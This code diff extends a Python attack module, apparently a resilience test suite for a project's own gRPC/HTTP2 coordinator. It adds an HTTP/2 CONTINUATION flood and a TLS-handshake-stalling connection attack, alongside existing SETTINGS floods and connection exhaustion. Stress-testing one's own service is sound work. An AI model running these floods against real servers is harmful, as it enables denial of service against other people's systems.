@@ -10,7 +10,17 @@ from typing import TypeVar
 
 from scripts.attack.attack import NO_KEY, Attack, Target
 from scripts.attack.calls import connect
-from scripts.attack.frames import CANCEL, PING, RST_STREAM, SETTINGS, Connection, frame
+from scripts.attack.frames import (
+    CANCEL,
+    CONTINUATION,
+    FRAME_BYTES,
+    HEADERS,
+    PING,
+    RST_STREAM,
+    SETTINGS,
+    Connection,
+    frame,
+)
 
 T = TypeVar("T")
 NUM_AT_ONCE = 200
@@ -56,7 +66,7 @@ async def grpc_idle(target: Target) -> AsyncGenerator[None, None]:
     target.tally["closed by the pool"] += sum(each.is_closed for each in kept)
     yield
     for connection in kept:
-        connection.close()
+        await connection.close()
 
 
 async def grpc_silent(target: Target) -> AsyncGenerator[None, None]:
@@ -111,6 +121,19 @@ async def settings(target: Target) -> AsyncGenerator[None, None]:
     await asyncio.gather(*(_flood(target, lambda _: frame(SETTINGS, 0, 0) * BATCH, is_read=False) for _ in range(4)))
 
 
+async def continuation(target: Target) -> AsyncGenerator[None, None]:
+    """On four connections, begin the headers of a call and go on with them without an end."""
+    yield
+    piece = frame(CONTINUATION, 0, 1, bytes(FRAME_BYTES)) * 8
+
+    def headers(connection: Connection) -> bytes:
+        first = b"" if connection.has_begun else frame(HEADERS, 0, 1)
+        connection.has_begun = True
+        return first + piece
+
+    await asyncio.gather(*(_flood(target, headers) for _ in range(4)))
+
+
 async def _flood(target: Target, frames: Callable[[Connection], bytes], *, is_read: bool = True) -> None:
     """Write frames as long as the attack goes on, on a new connection whenever the pool closes the last one."""
     while target.is_on():
@@ -128,7 +151,7 @@ async def _flood(target: Target, frames: Callable[[Connection], bytes], *, is_re
                     await connection.write(frames(connection))
                 target.tally["frames"] += BATCH
                 await asyncio.sleep(0)
-        connection.close()
+        await connection.close()
 
 
 async def _open_many(target: Target, num: int, make: Callable[[], Awaitable[T]]) -> list[T]:
@@ -184,6 +207,14 @@ ATTACKS = (
         is_held=True,
     ),
     Attack(
+        name="tls-silent",
+        by=NO_KEY,
+        text="1,100 TCP connections to the gRPC door that never begin their TLS handshake; 1,024 files",
+        program=grpc_silent,
+        files_max=FILES_MAX,
+        is_tls=True,
+    ),
+    Attack(
         name="http-refused",
         by=NO_KEY,
         text="connections above the highest number, without a pause; the coordinator may open 1,024 files",
@@ -207,5 +238,11 @@ ATTACKS = (
         by=NO_KEY,
         text="HTTP/2 settings without a pause on four connections; the replies are not read",
         program=settings,
+    ),
+    Attack(
+        name="continuation",
+        by=NO_KEY,
+        text="HTTP/2 headers without an end on four connections",
+        program=continuation,
     ),
 )
